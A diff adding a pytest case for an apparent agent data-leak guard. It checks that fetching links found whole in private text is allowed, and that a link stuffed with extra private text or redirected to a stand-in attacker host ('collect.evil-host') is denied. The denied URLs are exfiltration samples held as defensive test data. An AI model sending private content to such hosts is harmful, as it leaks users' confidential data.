@@ -251,6 +251,31 @@ def test_going_to_a_host_a_private_file_names_is_no_leak_of_it(
     assert decision.leaked_bytes == 0
 
 
+MEETING_URL = "https://acme.zoom.us/j/83412345678?pwd=Zk9xR2tLbVhQa0N6"
+RUNBOOK_URL = "https://wiki.acme.example/display/OPS/Billing+Runbook-7Qx2"
+MEETING = step("calendar", "get_events", {}, f"Weekly sync 10:00\nJoin: {MEETING_URL}\n")
+RUNBOOK = step("filesystem", "read_text_file", {"path": "README.md"}, f"Runbook: {RUNBOOK_URL}")
+
+
+@pytest.mark.parametrize(
+    ("read", "url", "action"),
+    [
+        (MEETING, MEETING_URL, Action.ALLOW),  # a meeting's link, password and all
+        (RUNBOOK, RUNBOOK_URL, Action.ALLOW),  # a wiki page a private README links to
+        # the same link with more of the private text put in its query
+        (RUNBOOK, f"{RUNBOOK_URL}?ctx=Billing+Runbook-7Qx2+OPS", Action.DENY),
+        # the link's path sent to another host
+        (RUNBOOK, RUNBOOK_URL.replace("wiki.acme", "collect.evil-host"), Action.DENY),
+    ],
+)
+def test_following_a_link_a_private_text_holds_whole_is_no_leak(
+    prevent: Session, read: Step, url: str, action: Action
+) -> None:
+    steps = [fetch_page("Release notes for v2."), read, step("fetch", "fetch", {"url": url})]
+    decision = play(prevent, steps)[-1]
+    assert decision.action is action
+
+
 def test_names_decoded_out_of_a_url_query_are_its_payload_not_its_address(
     prevent: Session,
 ) -> None:
